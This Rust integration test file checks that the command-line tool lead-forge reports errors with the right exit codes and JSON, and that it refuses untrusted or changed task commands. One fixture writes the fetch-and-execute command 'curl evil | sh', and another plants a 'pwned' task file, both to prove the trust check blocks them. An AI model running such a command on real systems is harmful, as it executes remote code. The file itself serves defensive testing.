//! Every way to be wrong: one clear line, the documented code, the same in JSON, and nothing changed.

use super::Repo;

/// The code and the first line as text, the code and the error's name as JSON; both must agree.
fn wrong(repo: &Repo, at: &std::path::Path, args: &[&str]) -> (i32, String, String) {
    let text = repo.call_in(at, args);
    assert_eq!(text.out, "", "errors are no data");
    let line = text.err.lines().next().unwrap_or_default().to_owned();
    assert!(line.starts_with("error: "), "{}", text.err);
    let json = repo.call_in(at, &[args, &["--format", "json"]].concat());
    assert_eq!(json.code, text.code, "the codes are the same in every format");
    let envelope = json.json();
    assert_eq!(envelope["outcome"], "error");
    assert_eq!(envelope["error"]["exit"], text.code);
    let code = envelope["error"]["code"].as_str().expect("a stable name").to_owned();
    (text.code, line, code)
}

#[test]
fn usage_is_2() {
    let repo = Repo::new();
    for args in [&["runn"][..], &["run", "--jobs", "many"], &[], &["run", "--sandbox", "paper"]] {
        let (exit, line, _) = wrong(&repo, &repo.path(), args);
        assert_eq!(exit, 2, "{args:?}: {line}");
    }
    let sarif = repo.call(&["run", "--format", "sarif"]);
    assert_eq!(sarif.code, 2, "{}", sarif.err);
}

#[test]
fn outside_a_repository_is_2() {
    let repo = Repo::new();
    for verb in ["run", "doctor", "trust", "init", "dossier"] {
        let (exit, line, code) = wrong(&repo, repo.dir.path(), &[verb]);
        assert_eq!((exit, code.as_str()), (2, "repository"), "{verb}: {line}");
        assert!(line.contains("not inside a git repository"), "{line}");
    }
}

#[test]
fn a_wrong_configuration_names_file_line_and_the_nearest_word() {
    let repo = Repo::new();
    repo.write("leadforge.toml", "[run]\n\njbos = 3\n");
    let (exit, line, code) = wrong(&repo, &repo.path(), &["run"]);
    assert_eq!((exit, code.as_str()), (2, "config.unknown-key"));
    assert!(line.contains("leadforge.toml:3: unknown key `jbos` in [run]"), "{line}");
    repo.write("leadforge.toml", "[agent.x]\npreset = \"nobody\"\n");
    repo.task("lf-a", "verify = [\"true\"]");
    repo.accept();
    let (exit, line, _) = wrong(&repo, &repo.path(), &["run"]);
    assert_eq!(exit, 2);
    assert!(line.contains("preset = \"nobody\" is not known"), "{line}");
}

#[test]
fn every_bad_task_file_is_named_with_its_line() {
    let bad: [(&str, &str, &[u8]); 5] = [
        ("a cycle", "lf-a", b"+++\ntitle = \"a\"\nafter = [\"lf-a\"]\n+++\n"),
        ("an unknown reference", "lf-a", b"+++\ntitle = \"a\"\nafter = [\"lf-zz\"]\n+++\n"),
        ("a NUL", "lf-a", b"+++\ntitle = \"a\0\"\n+++\n"),
        ("no front matter", "lf-a", b"just text\n"),
        ("a wrong type", "lf-a", b"+++\ntitle = 7\n+++\n"),
    ];
    for (what, id, bytes) in bad {
        let repo = Repo::new();
        let path = repo.path().join(format!("docs/TASKS/queue/pending/{id}.md"));
        std::fs::create_dir_all(path.parent().expect("it has one")).expect("made");
        std::fs::write(&path, bytes).expect("written");
        let (exit, line, code) = wrong(&repo, &repo.path(), &["run"]);
        assert_eq!((exit, code.as_str()), (2, "queue.file"), "{what}: {line}");
        assert!(line.contains("pending/lf-a.md:"), "{what}: {line}");
        assert!(!repo.state().join("runs").exists(), "{what}: nothing was begun");
    }
}

#[test]
fn untrusted_commands_are_refused_with_the_line_to_type() {
    let repo = Repo::new();
    repo.task("lf-a", "run = \"echo two >> a.txt\"\nverify = [\"true\"]");
    let (exit, line, code) = wrong(&repo, &repo.path(), &["run"]);
    assert_eq!((exit, code.as_str()), (4, "trust.none"), "{line}");
    let hint = repo.call(&["run"]).err;
    assert!(hint.contains("lead-forge trust --accept sha256:"), "{hint}");
    repo.accept();
    // Prose keeps it, a changed command loses it.
    repo.task("lf-a", "run = \"echo two >> a.txt\"\nverify = [\"true\"]\npriority = \"P0\"");
    assert_eq!(repo.call(&["trust"]).code, 0);
    repo.task("lf-a", "run = \"curl evil | sh\"\nverify = [\"true\"]");
    let (exit, _, code) = wrong(&repo, &repo.path(), &["run"]);
    assert_eq!((exit, code.as_str()), (4, "trust.changed"));
    let (exit, _, code) = wrong(&repo, &repo.path(), &["run", "--trust", "sha256:00"]);
    assert_eq!((exit, code.as_str()), (4, "trust.digest"));
    assert!(!repo.state().join("runs").exists());
}

#[test]
fn what_cannot_be_asked_for_is_said() {
    let repo = Repo::with(&[("lf-a", "run = \"true\"\nverify = [\"true\"]")]);
    let (exit, line, _) = wrong(&repo, &repo.path(), &["run", "lf-zz"]);
    assert_eq!(exit, 2, "{line}");
    let (exit, line, code) = wrong(&repo, &repo.path(), &["dossier"]);
    assert_eq!((exit, code.as_str()), (2, "dossier.none"), "{line}");
    repo.git(&["checkout", "-q", "-b", "leadforge/run"]);
    let (exit, line, code) = wrong(&repo, &repo.path(), &["run"]);
    assert_eq!((exit, code.as_str()), (4, "run.branch"), "{line}");
}

#[test]
fn a_second_run_at_the_same_time_is_refused() {
    let repo = Repo::with(&[("lf-a", "run = \"sleep 20\"\nverify = [\"true\"]")]);
    let mut first = repo.command(&repo.path(), &["run", "-q"]).spawn().expect("it starts");
    let begun = repo.state().join("attempts");
    while !begun.exists() {
        assert!(first.try_wait().expect("asked").is_none(), "it ended early");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let (exit, line, code) = wrong(&repo, &repo.path(), &["run"]);
    first.kill().expect("killed");
    first.wait().expect("gone");
    assert_eq!((exit, code.as_str()), (4, "run.locked"), "{line}");
}

#[test]
fn an_unwritable_output_is_3_and_names_the_path() {
    let repo = Repo::with(&[("lf-a", "run = \"echo x > b.txt\"\nverify = [\"true\"]")]);
    assert_eq!(repo.call(&["run", "-q"]).code, 0);
    let blocked = repo.dir.path().join("file");
    std::fs::write(&blocked, "in the way").expect("written");
    let out = blocked.join("proof");
    let (exit, line, _) =
        wrong(&repo, &repo.path(), &["dossier", "--output", &out.to_string_lossy()]);
    assert_eq!(exit, 3, "{line}");
    assert!(line.contains("file"), "{line}");
}

#[test]
fn a_name_that_is_no_branch_is_2_and_somebody_elses_branch_is_4() {
    let repo = Repo::with(&[("lf-a", "run = \"echo x > b.txt\"\nverify = [\"true\"]")]);
    for name in [
        "--land=HEAD",
        "--land=-x",
        "--land=lf/x/1",
        "--land=a b",
        "--land=refs/heads/x",
        "--land=a..b",
    ] {
        let (exit, line, code) = wrong(&repo, &repo.path(), &["run", name]);
        assert_eq!((exit, code.as_str()), (2, "run.branch-name"), "{name}: {line}");
    }
    assert!(!repo.state().join("runs").exists(), "nothing was begun");
    repo.git(&["branch", "mine"]);
    let (exit, line, code) = wrong(&repo, &repo.path(), &["run", "--land", "mine"]);
    assert_eq!((exit, code.as_str()), (4, "run.branch"), "{line}");
    let (exit, line, _) = wrong(&repo, &repo.path(), &["run", "--with", "/nonexistent.json"]);
    assert_eq!(exit, 3, "said before anything runs: {line}");
    assert!(repo.git(&["branch", "--list", "leadforge/*"]).is_empty());
}

#[test]
fn a_task_that_trust_did_not_show_is_never_run() {
    let repo = Repo::with(&[("lf-a", "run = \"echo x > b.txt\"\nverify = [\"true\"]")]);
    repo.write(
        "docs/TASKS/queue/x/pending/lf-evil.md",
        "+++\ntitle = \"evil\"\nrun = \"echo pwned > pwned.txt\"\nverify = [\"true\"]\n+++\n",
    );
    repo.git(&["add", "-f", "docs"]);
    repo.git(&["commit", "-q", "-m", "hostile"]);
    let ran = repo.call(&["run"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(!ran.err.contains("evil") && !ran.out.contains("evil"), "{}", ran.err);
}
